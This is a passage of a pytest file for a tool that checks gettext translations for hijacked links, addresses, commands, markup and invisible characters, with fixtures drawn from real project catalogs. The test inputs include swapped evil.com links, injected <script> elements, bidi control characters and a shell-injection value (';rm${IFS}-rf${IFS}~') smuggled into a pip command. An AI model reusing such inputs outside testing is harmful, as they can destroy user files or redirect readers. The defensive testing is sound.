    text = 'Criada usando <a href="https://www.sphinx-doc.org/pt_BR/master">Sphinx</a>.'
    found = check(source, text, locale="pt_BR")
    assert [f[:2] for f in found] == [("urls", "warning")]
    # another page of the same site, another language's segment, or another host: errors
    for other in ("https://www.sphinx-doc.org/pt_BR/evil", "https://www.sphinx-doc.org/de/"):
        found = check(source, text.replace("https://www.sphinx-doc.org/pt_BR/master", other))
        assert ("urls", "error") in [f[:2] for f in found], other
    found = check(source, text.replace("www.sphinx-doc.org", "sphinx-doc.evil.com"), locale="pt_BR")
    assert ("urls", "error") in [f[:2] for f in found]


def test_the_same_link_written_another_way_is_no_error() -> None:
    """Issue 19, found by the second held-out measure (pretalx): a host in capitals, a
    trailing slash, a domain joined to a German noun, a domain in prose left out where the
    translation links that site."""
    assert check("Ask the pretalx.com server.", "اسأل خادم Pretalx.com.", locale="ar") == []
    found = check(
        "Read https://pretalx.com/p/news", "Lies https://pretalx.com/p/news/", locale="de"
    )
    assert [f[:2] for f in found] == [("urls", "warning")]
    found = check("The pretalx.com server failed.", "Der pretalx.com-Server ist ausgefallen.")
    assert "urls" not in checks(found)
    source = "News on the pretalx.com blog: https://pretalx.com/p/news"
    found = check(source, "Neues in unserem Blog: https://pretalx.com/p/news/", locale="de")
    assert [f[:2] for f in found] == [("urls", "warning")] * 2
    # a path that differs in more than a slash, or a hyphen that goes on to another host
    found = check("Read https://pretalx.com/p/news", "Lies https://pretalx.com/p/new", locale="de")
    assert ("urls", "error") in [f[:2] for f in found]
    found = check("The pretalx.com server.", "Der pretalx.com-evil.net Server.", locale="de")
    assert ("urls", "error") in [f[:2] for f in found]


def test_a_single_number_plural_form_may_leave_the_count_out() -> None:
    found = check(
        ("%(counter)s file", "%(counter)s files"),
        (
            "لا ملفات",
            "ملف واحد",
            "ملفان",
            "%(counter)s ملفات",
            "%(counter)s ملفا",
            "%(counter)s ملف",
        ),
        locale="ar",
        plural_forms=ARABIC,
    )
    assert found and all(f[:2] == ("placeholders", "warning") for f in found)


def test_a_missing_plural_form_is_missing_not_empty() -> None:
    from outreach.pofile import parse_po

    text = (
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
        '"Plural-Forms: nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && '
        'n%10<=4 && (n%100<10 || n%100>=20) ? 1 : 2);\\n"\n\n'
        '#, python-format\nmsgid "%(n)s page"\nmsgid_plural "%(n)s pages"\n'
        'msgstr[0] "%(n)s страница"\nmsgstr[1] ""\n'
    )
    po = parse_po(text.encode(), path="ru.po", locale="ru")
    [plurals] = [f for f in check_catalog(po, file="ru.po", locale="ru") if f.check == "plurals"]
    assert "msgstr[1] (for 2–4, 22–24, 32–34, …) is empty" in plurals.message
    assert "msgstr[2] (for 0, 5–20, 25–30, …) is missing" in plurals.message


def test_a_hashtag_split_by_a_space_in_place_of_the_placeholder_says_so() -> None:
    found = check("Share with %(hashtag)s", "Comparte con #Love AlwaysWins")
    [finding] = [f for f in found if f[0] == "hashtags"]
    assert "split by a space" in finding[2] and "localized_hashtags" not in finding[2]


def test_markup_that_can_act_stays_an_error() -> None:
    """Attacks on the relaxed markup rules: a display override, a styled unknown element."""
    for translation in ('Usa <bdo dir="rtl">esto</bdo>', 'Usa <foo style="display:none">x</foo>'):
        assert ("html", "error") in [f[:2] for f in check("Use this", translation)], translation
    found = check("Use this", 'Usa <span style="display:none">esto</span>')
    assert ("html", "error") in [f[:2] for f in found]


@pytest.mark.parametrize(
    ("source", "translation", "flags", "locale", "expected"),
    [
        # printf's argument numbers reorder a c-format string, as msgfmt -c allows
        ("%s of %s", "%2$s sur %1$s", ("c-format",), "fr", []),
        ("%'d files", "%'d fichiers", ("c-format",), "fr", []),
        (
            "%s of %d",
            "%2$s sur %1$d",
            ("c-format",),
            "fr",
            [
                ("placeholders", "error", "argument 1 is %s in the source, %d in the translation"),
                ("placeholders", "error", "argument 2 is %d in the source, %s in the translation"),
            ],
        ),
        (
            "%lu files",
            "%d fichiers",
            ("c-format",),
            "fr",
            [("placeholders", "error", "argument 1 is %lu in the source, %d in the translation")],
        ),
        (
            "%s of %d",
            "%s sur %d %s",
            ("c-format",),
            "fr",
            [("placeholders", "error", "argument 3 (%s) is not in the source, which passes 2")],
        ),
        # a percent sign in prose is no directive: the string is never formatted
        ("50% off", "50 % de réduction", (), "fr", []),
        ("100% done", "100 % fait", ("python-format",), "fr", []),
        # an option touched by the words of a language written without spaces
        ("Use --verbose for details", "詳細は--verboseを使用", (), "ja", []),
        # an attribute that does not act is a warning; one that acts, an error
        (
            'Read <a href="%(url)s">this</a>',
            'Lisez <a href="%(url)s" target="_blank">ceci</a>',
            ("python-format",),
            "fr",
            [
                (
                    "html",
                    "warning",
                    "attribute target= on <a> is not in the source (it changes nothing a "
                    "reader is sent to: fine if intended)",
                )
            ],
        ),
        (
            'Read <a href="%(url)s">this</a>',
            'Lisez <a class="x" href="%(url)s">ceci</a>',
            ("python-format",),
            "fr",
            [("html", "error", "attribute class= on <a> is not in the source")],
        ),
        # a file name on a top-level domain, localised
        (
            "Save as backup.zip",
            "Enregistrer sous sauvegarde.zip",
            (),
            "fr",
            [
                (
                    "urls",
                    "warning",
                    "sauvegarde.zip takes the place of backup.zip, a file name on a top-level "
                    "domain (.zip): fine as a file name, but X, Bluesky and some mail clients "
                    "would link it to that website",
                )
            ],
        ),
    ],
)
def test_formats_and_forms_real_catalogs_use(
    source: str, translation: str, flags: tuple[str, ...], locale: str, expected: Found
) -> None:
    found = [
        f
        for f in check(source, translation, locale=locale, flags=flags)
        if f[0] in {"placeholders", "code", "html", "urls"}
    ]
    assert found == expected


def test_a_c_format_flag_does_not_hide_a_python_placeholder() -> None:
    """The flag is the translator's text: a source with ``%(url)s`` is read as Python."""
    found = check("Sign: %(url)s", "Firma", flags=("c-format",))
    assert ("placeholders", "error", "placeholder %(url)s is missing from the translation") in found


@pytest.mark.parametrize(
    ("msgid", "context"), [("translator-credits", None), ("Your emails", "EMAIL OF TRANSLATORS")]
)
def test_the_translators_credits_name_their_own_pages(msgid: str, context: str | None) -> None:
    """Launchpad, Weblate and GNOME fill the credits with the translators' names, addresses
    and pages: one warning each for links and handles, never a hijack error."""
    credits = (
        "Launchpad Contributions:\n  Jean https://launchpad.net/~jean\n  <marie@example.fr> @mariex"
    )
    found = [
        f
        for f in check(msgid, credits, locale="fr", context=context)
        if f[0] in {"urls", "mentions"}
    ]
    assert [(f[0], f[1]) for f in found] == [("urls", "warning"), ("mentions", "warning")]
    assert "https://launchpad.net/~jean" in found[0][2]


def test_a_long_list_of_translators_is_no_paste_gone_wrong() -> None:
    """The credits grow with every contributor: Launchpad's list of forty names and pages is
    thousands of characters for a 18-character key, and nothing is wrong with it. The same
    text for an ordinary message is still far too long, and the credits have a ceiling too."""
    names = "Launchpad Contributions:\n" + "".join(
        f"  Traduttore {n} https://launchpad.net/~traduttore{n}\n" for n in range(45)
    )
    assert len(names) > 2_000
    assert [f for f in check("translator-credits", names, locale="it") if f[0] == "length"] == []
    long = [f for f in check("Close", names, locale="it") if f[0] == "length"]
    assert [(f[0], f[1]) for f in long] == [("length", "error")]
    huge = [f for f in check("translator-credits", names * 40, locale="it") if f[0] == "length"]
    assert [(f[0], f[1]) for f in huge] == [("length", "error")]


@pytest.mark.parametrize(
    ("source", "translation", "locale", "plural_forms", "severity", "says"),
    [
        # a form no number selects is never shown (Japanese has one form)
        (
            ("{n} child", "{n} children"),
            ["{n} 人の子", "子供の数"],
            "ja",
            "nplurals=2; plural=0;",
            "warning",
            "never shown",
        ),
        # ... but a formula that reads n may pick that form for a number no sample tries
        (
            ("{n} child", "{n} children"),
            ["{n} 人の子", "{n} https://evil.com/x"],
            "ja",
            "nplurals=2; plural=(n == 1234 ? 1 : 0);",
            "error",
            "evil.com",
        ),
        # a word in angle brackets that labels an argument, translated to one naming an element
        ("Events with Id containing <text>", "<data> を含むIDのイベント", "ja", None, None, ""),
        (
            "Events with Id containing <text>",
            "<script> を含むIDのイベント",
            "ja",
            None,
            "error",
            "",
        ),
        # an example URL on a reserved domain, given a path
        (
            "eg. http://example.com (if blank)",
            "z.B. http://example.com/video.mpeg (wenn leer)",
            "de",
            None,
            "warning",
            "which no one can own",
        ),
        # an Arabic preposition joined to a domain the source names
        ("Open on openstreetmap.org", "فتح بـopenstreetmap.org", "ar", None, "warning", "before"),
        ("Open on openstreetmap.org", "فتح بـevil.org", "ar", None, "error", "mixes Arabic"),
        # a fragment a language needs no word for
        ("and ", "  ", "ko", None, "warning", "joined to others"),
        ("More", " ", "ko", None, "error", "only white space"),
    ],
)
def test_classes_of_the_third_held_out_half(
    source: str | tuple[str, str],
    translation: str | list[str],
    locale: str,
    plural_forms: str | None,
    severity: str | None,
    says: str,
) -> None:
    found = [
        f
        for f in check(source, translation, locale=locale, plural_forms=plural_forms)
        if f[0] in {"placeholders", "html", "urls", "blank"}
    ]
    if severity is None:
        assert found == []
        return
    assert found and found[0][1] == severity, found
    assert says in found[0][2]


def test_what_the_invisible_check_looks_for_is_unprintable_but_five_characters() -> None:
    """``markup._plain`` skips a form that is printable and has none of the five printable
    characters the check's pattern names: sound only if every other character the pattern
    finds (Cf, Cc, in the ``regex`` module's tables) is not printable in Python's. Every
    code point but the surrogates is tried."""
    import sys

    from outreach.checks import markup

    rx = markup._invisible_rx().chars
    printable_found = [
        f"U+{point:04X}"
        for point in range(sys.maxunicode + 1)
        if not 0xD800 <= point < 0xE000
        and chr(point).isprintable()
        and rx.match(chr(point))
        and not markup._PRINTABLE_INVISIBLES.match(chr(point))
    ]
    assert printable_found == []


@given(st.text(alphabet=st.characters(codec="ascii"), max_size=30))
def test_an_ascii_number_is_valued_as_any_other(written: str) -> None:
    """``verbatim._value``'s ASCII path is its general one (digits as ``unicodedata`` gives
    them)."""
    import unicodedata

    from outreach.checks import verbatim

    digits = "".join(str(unicodedata.decimal(c)) for c in written if c.isdecimal())
    assert verbatim._value(written) == (digits.lstrip("0") or "0")


# -- issue 19, round 4 (validation data): false-error classes seen on new projects ----------
def test_an_address_patterns_domain_is_no_mention() -> None:
    """django-helpdesk's cs, es_MX and it catalogs localise a wildcard address pattern of
    the help text (``*@domain.com`` -> ``*@dominio.com``): X reads no mention after ``*``,
    and Mastodon has no local account with a dot in its name, so it notifies no one."""
    source = "Enter a full address, or portions with wildcards, eg *@domain.com or postmaster@*."
    for text in (
        "Přidejte plnou adresu nebo její část, např. *@doména.cz nebo postmaster@*.",
        "Puoi usare un carattere jolly, come *@dominio.com o postmaster@*.",
    ):
        found = check(source, text, locale="it")
        assert ("mentions", "error") not in [f[:2] for f in found], found
        assert ("mentions", "warning") in [f[:2] for f in found], found
    # X reads a mention after a space: a dotted handle changed there stays an error
    found = check("Ask @ioc.media", "Pregunta a @evil.media")
    assert ("mentions", "error") in [f[:2] for f in found]
    # and so does an account added where X reads it
    assert ("mentions", "error") in [f[:2] for f in check("Ask us", "Pregunta a @evil")]


def test_a_number_format_read_as_a_domain_in_the_source_is_no_new_link() -> None:
    """django-localflavor's hi catalog writes the source's format mask ``X.XXX.XXX-X``
    with spaces around the dash; ``.xxx`` is a top-level domain, so the extractors read
    ``X.XXX`` in the source and ``X.XXX.XXX`` in the translation: the same characters."""
    found = check(
        "Enter a valid CI number in X.XXX.XXX-X,XXXXXXX-X or XXXXXXXX format.",
        "X.XXX.XXX - X, xxxxxxx - X या XXXXXXXX प्रारूप में मान्य सीआई संख्या दर्ज करें.",
        locale="ru",
    )
    assert ("urls", "error") not in [f[:2] for f in found], found
    # a host that only ends or begins the source's written text is another host
    found = check("Visit foo.evil.com today", "Visita evil.com hoy")
    assert ("urls", "error") in [f[:2] for f in found]
    found = check("Visit evil.com.au today", "Visita evil.com hoy")
    assert ("urls", "error") in [f[:2] for f in found]


def test_a_left_to_right_mark_at_an_end_of_left_to_right_text_is_only_a_warning() -> None:
    """django-localflavor's ru catalog ends region names with U+200E ("Базель-Штадт\u200e"):
    in left-to-right text it repeats the direction around it; nothing changes for a reader."""
    found = check("Basel-Stadt", "Базель-Штадт\u200e", locale="ru")
    assert [f[:2] for f in found] == [("zero-width", "warning")]
    # inside a word it splits the word (a hashtag, a host): still an error
    assert [f[:2] for f in check("Sign now", "Fir\u200ema ya")] == [("invisible", "error")]
    # the right-to-left mark in left-to-right text stays an error: it can turn the direction
    assert [f[:2] for f in check("Sign now", "Firma ya\u200f")] == [("invisible", "error")]


def test_an_example_on_a_real_domain_is_no_example() -> None:
    """django-helpdesk's cs and it catalogs (issue 19, validation data): "such as
    <em>email@domain.com</em>" written ``email@dominio.com``. A cue ("such as", "e.g.") does
    not make a real domain an example: a campaign's "e.g. mp.office@parliament.uk" is an
    address supporters write to, and another host in its place is a possible hijack."""
    source = "Enter a whole address such as <em>email@domain.com</em>."
    found = check(source, "Inserisci un indirizzo come <em>email@dominio.com</em>.", locale="it")
    assert ("urls", "error") in [f[:2] for f in found]
    found = check(
        "Email your MP's office, e.g. <strong>mp.office@parliament.uk</strong>",
        "Escribe a tu diputado, p. ej. <strong>diputado@evil.com</strong>",
    )
    assert ("urls", "error") in [f[:2] for f in found]


def test_one_example_excuses_one_localised_example_of_its_kind() -> None:
    """A help text's example address left out does not excuse a new web link (the Donate
    button), nor one example several new hosts (an attack on issue 19's round-4 fixes)."""
    source = 'Your email, e.g. jo@example.com. <a href="https://ngo.org/donate">Donate</a>'
    text = 'Tu correo. <a href="https://evil.com/donate">Dona</a> https://ngo.org/donate'
    assert ("urls", "error") in [f[:2] for f in check(source, text)]
    found = check(
        "Your email, e.g. jo@example.com", "Tu correo, p. ej. ana@ejemplo.es o pay@evil.com"
    )
    assert ("urls", "error") in [f[:2] for f in found]
    found = check("Your email, e.g. jo@example.com", "Tu correo, p. ej. ana@ejemplo.es")
    assert found and all(f[1] == "warning" for f in found), found


def test_a_changed_command_word_must_read_as_a_name_to_replace() -> None:
    """A metavariable written otherwise is a warning only when the reader still sees a name
    to replace (capitals, brackets, a script without case); anything else is another
    command (an attack: ``PACKAGE`` written ``evilpkg``, ``<number>`` written shell)."""
    found = check("Run:\n$ pip install PACKAGE", "Ejecuta:\n$ pip install PAQUETE")
    assert found and all(f[1] == "warning" for f in found), found
    for text in ("$ pip install evilpkg", "$ pip install ;rm${IFS}-rf${IFS}~"):
        found = check("Run:\n$ pip install PACKAGE", "Ejecuta:\n" + text)
        assert ("code", "error") in [f[:2] for f in found], (text, found)


def test_an_added_address_is_no_silent_mention() -> None:
    """``give!@evil-donations.org`` is an address a supporter may write to: only a wildcard
    pattern's domain (``*@dominio.com``) localised beside the source's own notifies no one."""
    found = check("Follow us @ngo", "Síguenos @ngo o escribe a give!@evil-donations.org")
    assert ("mentions", "error") in [f[:2] for f in found]
    found = check("e.g. *@domain.com", "p. ej. *@dominio.com")
    assert found and all(f[1] == "warning" for f in found), found


def test_a_template_tag_the_source_lacks_is_read_for_links() -> None:
    source = "{% if shop %}Order from {{ order.shop }}{% endif %} - see https://ngo.org/give"
    text = (
        "{% if shop %}Pide en {{ order.shop }}{% endif %} - https://ngo.org/give"
        " {% https://evil.com/donar %}"
    )
    assert ("urls", "error") in [f[:2] for f in check(source, text)]


def test_a_quoting_conversion_added_stays_an_error() -> None:
    """``%(url)s`` written ``%(url)r`` puts quotes into the link (``href="'https://…'"``);
    only the way back, ``%r`` written ``%s``, is the translator's own quoting."""
    found = check('<a href="%(url)s">Donate</a>', '<a href="%(url)r">Dona</a>')
    assert ("placeholders", "error") in [f[:2] for f in found]
    found = check("Value %(value)r is invalid", "Valor « %(value)s » no válido")
    assert found and all(f[1] == "warning" for f in found), found


def test_an_invisible_character_stuck_to_a_link_stays_an_error() -> None:
    for char in ("\u2069", "\u200e", "\u200b"):
        found = check("Give: https://ngo.org/give", "Dona: https://ngo.org/give" + char)
        assert ("invisible", "error") in [f[:2] for f in found], (char, found)


def test_an_isolate_mixing_directions_in_left_to_right_text_is_an_error() -> None:
    found = check("We do not agree", "\u2068\u05d0 We do not\u2069 agree", locale="de")
    assert ("invisible", "error") in [f[:2] for f in found]
    found = check("From %(name)s", "Von \u2068%(name)s\u2069", locale="de")
    assert found and all(f[1] == "warning" for f in found), found


def test_a_link_or_address_to_another_host_stays_an_error() -> None:
    """A host the source does not write, where the source gives no example, is a danger:
    an address supporters write to (a changed domain is a hijack), and a web link even when
    the source calls it an example (a reader may open it)."""
    found = check("Write to help@ngo.org.", "Escribe a help@ngo-ayuda.org.")
    assert ("urls", "error") in [f[:2] for f in found]
    found = check("Write to help@ngo.org, for example", "Escribe a help@ngo-ayuda.org, por ejemplo")
    assert ("urls", "error") in [f[:2] for f in found]
    found = check("Sites such as https://ngo.org/join", "Sitios como https://evil.org/join")
    assert ("urls", "error") in [f[:2] for f in found]


def test_a_balanced_isolate_around_a_placeholder_in_left_to_right_text_is_a_warning() -> None:
    """Audit of the errors (issue 19, round 4): Unicode recommends isolating a placeholder of
    either direction, FSI ``%(name)s`` PDI; balanced, what reviewers see is what readers see.
    A right-to-left embedding or isolate in left-to-right text reverses its words: an error."""
    found = check("Hello, %(name)s!", "Hallo, \u2068%(name)s\u2069!", locale="de")
    assert found and {f[:2] for f in found} == {("invisible", "warning")}, found
    found = check("Hello, %(name)s!", "Hallo, \u2066%(name)s\u2069!", locale="de")
    assert found and {f[:2] for f in found} == {("invisible", "warning")}, found
    found = check("Hello, %(name)s!", "Hallo, \u2067%(name)s und mehr\u2069!", locale="de")
    assert ("invisible", "error") in [f[:2] for f in found]
    # left open, or in an email header, it stays an error
    found = check("Hello, %(name)s!", "Hallo, \u2068%(name)s!", locale="de")
    assert ("invisible", "error") in [f[:2] for f in found]
    found = check("Join us", "Mach \u2068mit\u2069", locale="de", context="subject")
    assert ("invisible", "error") in [f[:2] for f in found]


def test_a_tools_formula_under_a_higher_nplurals_is_a_header_warning() -> None:
    """Audit of the errors (issue 19, round 4; django-formtools' be catalog, from Transifex):
    Belarusian's own three-form formula, word for word, under ``nplurals=4``: every number
    gets the language's form and form 3 is only never shown. A header warning, and a
    finding in form 3 is a warning; a formula of the translator's that reads ``n`` and
    reaches no form 3 for the numbers tried stays an error (n == 1234 is not tried)."""
    formula = (
        "nplurals=4; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && n%10<=4 && "
        "(n%100<10 || n%100>=20) ? 1 : 2);"
    )
    source = ("%(n)s file", "%(n)s files")
    forms = ["%(n)s файл", "%(n)s файлы", "%(n)s файлаў", "файлаў"]
    found = check(source, forms, locale="be", plural_forms=formula)
    assert found and all(f[1] == "warning" for f in found), found
    assert {"header", "placeholders"} <= {f[0] for f in found}, found
    odd = "nplurals=4; plural=(n%10==1 && n%100!=11 ? 0 : n == 1234 ? 3 : n%10>=2 ? 1 : 2);"
    found = check(source, forms, locale="be", plural_forms=odd)
    assert ("placeholders", "error") in [f[:2] for f in found], found


def test_a_word_in_angle_brackets_with_a_non_ascii_letter_is_no_tag() -> None:
    """Audit of the errors (issue 19, round 4): a label in angle brackets, ``<Sélectionner>``,
    names the element "sélectionner" as browsers read it (up to white space, ``/`` or ``>``),
    which is none: not ``<s>`` with an attribute ``électionner``."""
    assert check("Select", "<Sélectionner>", locale="fr") == []
    assert check("(none)", "<ничего>", locale="ru") == []
    # a real element with an attribute stays markup
    found = check("Select", '<s onclick="x()">Sélectionner</s>', locale="fr")
    assert ("html", "error") in [f[:2] for f in found]
    found = check("Select", "<sélection><script>x()</script>", locale="fr")
    assert ("html", "error") in [f[:2] for f in found]


def test_a_commands_metavariable_translated_is_a_warning() -> None:
    """Audit of the errors (issue 19, round 4): a usage line's metavariable (``NAME``,
    ``<file>``) is a name the reader replaces anyway; translated, with every other word of
    the command kept, it is a judgement. Another word changed stays an error."""
    source = "Run:\n$ manage.py createsuperuser --username NAME"
    found = check(source, "Exécutez :\n$ manage.py createsuperuser --username NOM", locale="fr")
    assert [f[:2] for f in found] == [("code", "warning")], found
    found = check(source, "Exécutez :\n$ manage.py créer --username NOM", locale="fr")
    assert ("code", "error") in [f[:2] for f in found], found
    found = check(source, "Exécutez :\n$ manage.py createsuperuser --utilisateur NOM", locale="fr")
    assert ("code", "error") in [f[:2] for f in found], found


def test_a_language_parameter_or_a_loopback_example_is_a_warning() -> None:
    """Audit of the errors (issue 19, round 4): the same page in the translation's language
    where the site reads the language from a query parameter or a file name (``?hl=fr``,
    ``gpl.fr.html``), and a local server's example written another way (``localhost`` ->
    ``127.0.0.1``), are no other site's page; another parameter or host stays an error."""
    for source, text in (
        ("See https://support.acme.org/a/1?hl=en", "Voir https://support.acme.org/a/1?hl=fr"),
        (
            "See https://www.gnu.org/licenses/gpl.html",
            "Voir https://www.gnu.org/licenses/gpl.fr.html",
        ),
        ("e.g. http://localhost:8000", "p. ex. http://127.0.0.1:8000"),
    ):
        found = check(source, text, locale="fr")
        assert [f[:2] for f in found] == [("urls", "warning")], found
    for source, text in (
        ("See https://help.acme.org/x?user=en", "Voir https://help.acme.org/x?user=evil"),
        ("See https://help.acme.org/x?hl=en", "Voir https://help.acme.org/x?hl=de"),
        ("e.g. http://localhost:8000", "p. ex. http://127.evil.org:8000"),
    ):
        found = check(source, text, locale="fr")
        assert ("urls", "error") in [f[:2] for f in found], found


def test_a_string_conversion_swapped_is_a_warning() -> None:
    """Audit of the errors (issue 19, round 4): ``%(value)r`` written ``%(value)s`` formats
    the same value, quoted otherwise (``msgfmt -c`` accepts it; translators quote in their
    own way, ``« %(value)s »``); another type (``%(days)d`` -> ``%(days)s``) stays an error."""
    found = check("Value %(value)r is invalid", "La valeur « %(value)s » est invalide", locale="fr")
    assert [f[:2] for f in found] == [("placeholders", "warning")], found
    found = check("Value %r is invalid", "La valeur « %s » est invalide", locale="fr")
    assert [f[:2] for f in found] == [("placeholders", "warning")], found
    found = check("Expires in %(days)d days", "Expire dans %(days)s jours", locale="fr")
    assert [f[:2] for f in found] == [("placeholders", "error")], found
    found = check("Value %(value)r is invalid", "La valeur %(valeur)s est invalide", locale="fr")
    assert [f[:2] for f in found] == [("placeholders", "error")], found


# -- issue 19, round 4 (second validation set): false-error classes seen on new projects -----
def test_an_option_left_out_with_nothing_in_its_place_is_a_warning() -> None:
    """Mailman's ru catalog rephrases the help of ``--list`` itself ("Multiple --list options
    can be given" -> "the parameter can be given several times"): it names no option, so a
    reader types nothing wrong. Whether it drops something only a bilingual reader can say."""
    source = (
        "    Operate on this mailing list.  Multiple --list options can be given.  The\n"
        "    argument can either be a List-ID or a fully qualified list name."
    )
    text = (
        "    Имя списка рассылки, может быть List-Id или полным именем рассылки.\n"
        "Параметр можно указать несколько раз."
    )
    found = check(source, text, locale="ru")
    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found
    # a dash of prose where the option was is no option written otherwise
    found = check(
        "Multiple --list options can be given.",
        "Параметр -- можно указать несколько раз.",
        locale="ru",
    )
    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found


def test_an_option_written_otherwise_stays_an_error() -> None:
    """Mailman's hu, it and id catalogs and JupyterLab's uk pack write the options translated
    or mistyped (``--fájl``, ``-- membro``, ``-l/-list``, ``--оновити``): a reader who copies
    them passes an option no program knows."""
    source = "Delete the member(s) specified by -m/--member and/or -f/--file from all lists."
    for locale, text in (
        ("hu", "Törölje az -m/--tag és/vagy -f/--fájl által megadott tagokat."),
        ("it", "Elimina i membri specificati con -m /-- membro e/o -f/--file."),
    ):
        found = check(source, text, locale=locale)
        assert ("code", "error") in [f[:2] for f in found], found
    found = check("Not with -a/--all or -l/--list.", "Tidak bersama -a/--all atau -l/-list.")
    assert ("code", "error") in [f[:2] for f in found], found
    found = check(
        "Run: pip install --upgrade jupyterlab-git.", "Виконайте: pip --оновити jupyterlab-git."
    )
    assert ("code", "error") in [f[:2] for f in found], found
    # the option's name without its dashes, and an option in visual order
    found = check("Use --allow-source-mismatch", "استخدم »allow-source-mismatch«", locale="ar")
    assert ("code", "error") in [f[:2] for f in found], found
    found = check("Use --full", "استخدم full--", locale="ar")
    assert ("code", "error") in [f[:2] for f in found], found


def test_white_space_for_a_message_key_is_a_warning() -> None:
    """Mailman's catalogs use template names as msgids (``list:member:digest:header.txt``),
    whose English text is empty; zh_Hans writes a single space to keep the header empty."""
    found = check("list:member:digest:header.txt", " ", locale="zh_Hans")
    assert [f[:2] for f in found] == [("blank", "warning")], found
    # a word is text: white space for it shows nothing where the word should be
    assert [f[:2] for f in check("More", " ")] == [("blank", "error")]
    assert [f[:2] for f in check("e.g.", " ")] == [("blank", "error")]


def test_a_field_with_an_attribute_is_a_placeholder() -> None:
    """Mailman's ca catalog writes ``${Mlist.list_id}`` for ``${mlist.list_id}`` (msgfmt -c
    reports it; str.format and string.Template read ``{mlist.list_id}`` as one field with an
    attribute), and its ko catalog closes one with two braces: both errors."""
    source = "${mlist.list_id} is at volume ${mlist.volume}, number ${mlist.next_digest_number}"
    text = (
        "${Mlist.list_id} es troba en el volum ${mlist.volume}, nombre ${mlist.next_digest_number}"
    )
    found = check(source, text, locale="ca")
    assert ("placeholders", "error") in [f[:2] for f in found], found
    found = check(
        "${person} left ${mlist.fqdn_listname}",
        "${person} 님이 ${mlist.fqdn_listname}}를 남김",
        locale="ko",
    )
    assert ("placeholders", "error") in [f[:2] for f in found], found
    # the same fields, in another order: nothing to report
    assert check("{user.name} joined {0[1]}", "{0[1]}: {user.name} se unió") == []


# -- issue 19's third round-4 validation set ------------------------------------------------
def test_a_python_integer_written_with_i_or_d_is_the_same_placeholder() -> None:
    """OctoPrint's German catalog: ``%(count)i`` translated ``%(count)d`` formats alike."""
    assert check("Enabling %(count)i plugins", "Aktiviere %(count)d Plugins") == []
    assert check("Enabling %i plugins", "Aktiviere %d Plugins") == []
    found = check("Enabling %(count)i plugins", "Aktiviere %(anzahl)d Plugins")
    assert ("placeholders", "error") in {(c, s) for c, s, _ in found}


def test_a_template_variable_renamed_is_a_placeholder_error_and_no_link() -> None:
    """Shuup's Spanish and Chinese catalogs translate a notification's variables; .tienda
    and .商店 are top-level domains, but a name in ``{{ }}`` is never a link."""
    source = "{{ order.shop }} - Shipment created for order {{ order.identifier }}"
    found = check(
        source, "{{ pedido.tienda }} - Envío creado para el pedido {{ pedido.identificador }}"
    )
    assert "urls" not in checks(found)
    assert {(c, s) for c, s, _ in found} >= {("placeholders", "error")}
    zh = check(source, "{{订单.商店}} - 为订单{{订单.标识符}}创建的货件", locale="zh_Hans")
    assert "urls" not in checks(zh) and "placeholders" in checks(zh)
    assert (
        check(source, "{{order.shop}} - Envío creado para el pedido {{ order.identifier }}") == []
    )
    # a quoted string in a template is rendered as written: still a link
    quoted = check(source, '{{ "evil.com" }} {{ order.shop }} {{ order.identifier }}')
    assert ("urls", "error") in {(c, s) for c, s, _ in quoted}


def test_a_broken_template_variable_is_an_error() -> None:
    """Horizon's Korean catalog: one brace short, the title shows the name as typed."""
    found = check(
        "Edit {{ qos_spec_name }} Spec Value", "{ qos_spec_name }} 사양 값 수정", locale="ko"
    )
    assert ("placeholders", "error") in {(c, s) for c, s, _ in found}


def test_a_host_after_chinese_words_is_the_sources_host_glued() -> None:
    """Shuup's Chinese catalog: '发送至Shuup.com' is 'sent to' and the source's host, no
    look-alike mixing scripts: a warning at most."""
    found = check(
        "Statistics will be periodically sent to Shuup.com after 24 hours.",
        "统计数据将在24小时后定期发送至Shuup.com。",
        locale="zh_Hans",
    )
    assert not [f for f in found if f[0] == "urls" and f[1] == "error"]
    other = check(
        "Statistics will be periodically sent to Shuup.com after 24 hours.",
        "统计数据将在24小时后定期发送至evil.com。",
        locale="zh_Hans",
    )
    assert ("urls", "error") in {(c, s) for c, s, _ in other}


def test_a_commands_argument_in_angle_brackets_translated_is_a_warning() -> None:
    """JupyterLab's Polish pack: '<plugin-name>' of a command line, never closed, written
    '<nazwa-wtyczki>': a word for the reader, not markup."""
    found = check(
        "recovery using `jupyter labextension enable <plugin-name>` command may be required",
        "przywrócenie ich poleceniem 'jupyter labextension enable <nazwa-wtyczki>'",
        locale="pl",
    )
    assert [s for c, s, _ in found if c == "html"] == ["warning"]
    # with an attribute, or closed, it is an element: still an error
    styled = check(
        "enable <plugin-name>", 'włącz <nazwa-wtyczki style="display:none">', locale="pl"
    )
    assert ("html", "error") in {(c, s) for c, s, _ in styled}


# -- issue 19, after the fourth held-out measure: its false classes, fixed in general ------
def test_a_link_in_place_of_an_example_on_a_reserved_domain_is_a_warning() -> None:
    """bzr's es and de help (round 4): ``http_proxy=http://proxy.example.com:3128/`` written
    ``proxy.ejemplo.com``, ``proxy.beispiel.de``. The source's link leads nowhere (RFC
    2606), so the translator's is a localised example: a warning that asks for example.com.
    A link in place of one on a real domain stays an error."""
    source = "  http_proxy=http://proxy.example.com:3128/"
    found = check(source, "  http_proxy=http://proxy.ejemplo.com:3128/")
    assert found and all(f[1] == "warning" for f in found), found
    assert "example domain" in found[0][2]
    found = check("Proxy: http://proxy.ngo.org:3128/", "Proxy: http://proxy.evil.org:3128/")
    assert ("urls", "error") in [f[:2] for f in found]


def test_a_prose_percent_sign_beside_a_named_placeholder_is_text() -> None:
    """Misago's JavaScript catalogs (round 4): ``%(progress)s % complete`` mixes a named
    placeholder with what ``%`` would read as an unnamed directive, so Python's ``%`` cannot
    format the source at all (TypeError, with a mapping or a tuple): its percent signs are
    text, and so are the translation's (``%(progress)s%``). A named placeholder lost stays
    an error."""
    for text in ("完成 %(progress)s%", "%(progress)s % выполнено"):
        found = check("%(progress)s % complete", text)
        assert not [f for f in found if f[1] == "error"], found
    found = check("%(progress)s % complete", "%(progreso)s % completo")
    assert ("placeholders", "error") in [f[:2] for f in found]
    # a python-format string with named placeholders only still refuses a stray percent
